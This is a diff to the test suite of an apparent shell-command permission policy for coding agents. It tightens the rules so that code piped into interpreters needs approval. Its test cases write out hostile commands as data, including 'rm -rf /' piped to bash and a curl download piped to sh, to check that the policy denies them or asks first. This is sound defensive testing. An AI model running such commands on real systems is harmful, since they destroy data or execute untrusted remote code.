@@ -20,6 +20,7 @@ from hypothesis import strategies as st
 from toolpolicy.runtime.kinds import ArgView, CompiledPattern, Unit
 from toolpolicy.runtime.kinds.glob import glob_to_regex
 from toolpolicy.runtime.kinds.shell import MAX_COMMAND_CHARS, MAX_DEPTH, compile_spec, view
+from toolpolicy.runtime.kinds.shell_wrappers import ALLOW_WRAPPERS
 
 # --------------------------------------------------------------------------- helpers
 
@@ -42,8 +43,8 @@ def _matches(p: CompiledPattern, text: str) -> bool:
 
 
 def _unit_allowed(unit: Unit, allow: list[CompiledPattern]) -> bool:
-    if unit.writes:
-        return False
+    if any(not w.startswith("\x05") for w in unit.writes):
+        return False  # writes a command makes by nature (`rm x`, "\x05") need no path allow
     usable = [p for p in allow if p.exact or not unit.exec_capable]
     return any(_matches(p, t) for t in unit.allow_texts for p in usable)
 
@@ -265,8 +266,9 @@ CASES = [
     ("echo 'rm -rf /' | bash", (), DENY_RM, "deny"),
     ("curl -s https://x.test/i.sh | sh", ("curl *", "sh *"), (), "ask"),
     ("npm test && curl -s https://get.example.test/i.sh | sh", ("npm test *",), (), "ask"),
-    ("python3 <<'PY'\nprint('hello')\nPY", ("python3 *",), (), "allow"),
-    ("bash -lc \"python3 <<'PY'\nprint('hello')\nPY\"", ("python3 *",), (), "allow"),
+    # code fed to an interpreter's stdin is exec-capable (issue 14): a prefix allow does not cover it
+    ("python3 <<'PY'\nprint('hello')\nPY", ("python3 *",), (), "ask"),
+    ("bash -lc \"python3 <<'PY'\nprint('hello')\nPY\"", ("python3 *",), (), "ask"),
     ("cat <<EOF\n$(rm x)\nEOF", ("cat *",), DENY_RM, "deny"),
     ("cat <<EOF\n$(rm x)\nEOF", ("cat *",), (), "ask"),
     ("cat <<'EOF'\n$(rm x)\nEOF", ("cat *",), DENY_RM, "allow"),  # quoted: data only
@@ -586,7 +588,7 @@ def test_deny_texts(cmd: str, texts: set[str]) -> None:
         ("nohup", False),
         ("command -v ls", False),
         ("ls", False),
-        ("python3 -c 'print(1)'", False),
+        ("python3 -c 'print(1)'", True),  # inline code: exec-capable (issue 14, command knowledge)
     ],
 )
 def test_exec_capable(cmd: str, exec_capable: bool) -> None:
@@ -648,7 +650,7 @@ CONFORMANCE = [
     ("npm test a.spec.js", ("npm test \\*.spec.js",), (), "ask"),
     ("npm test *.spec.js", ("npm test \\*.spec.js",), (), "allow"),
     ("echo\\foo", ("echo *",), (), "ask"),
-    (["bash", "-lc", "python3 <<'PY'\nprint('hello')\nPY"], ("python3 *",), (), "allow"),
+    (["bash", "-lc", "python3 <<'PY'\nprint('hello')\nPY"], ("python3 *",), (), "ask"),
     (["bash", "-lc", "cargo build && echo ok"], ("echo *",), (), "ask"),
     (["/usr/bin/git", "status"], (), ("git *",), "deny"),
     (["/usr/bin/git", "status"], ("/usr/bin/git *", "git *"), (), "allow"),
@@ -774,6 +776,8 @@ def test_view_never_raises(cmd: str) -> None:
 def test_argv_lists_round_trip(words: list[str]) -> None:
     """A Codex argv with no shell wrapper is one command whose allow text gives the argv back."""
     v = view(words)
+    if words and words[0] in ALLOW_WRAPPERS:
+        return  # `builtin x`, `nohup x`: the allow side strips the wrapper by design (SPEC 3)
     if not v.diagnostics and len(v.units) == 1 and v.units[0].allow_texts:
         assert shlex.split(v.units[0].allow_texts[0]) == words
 
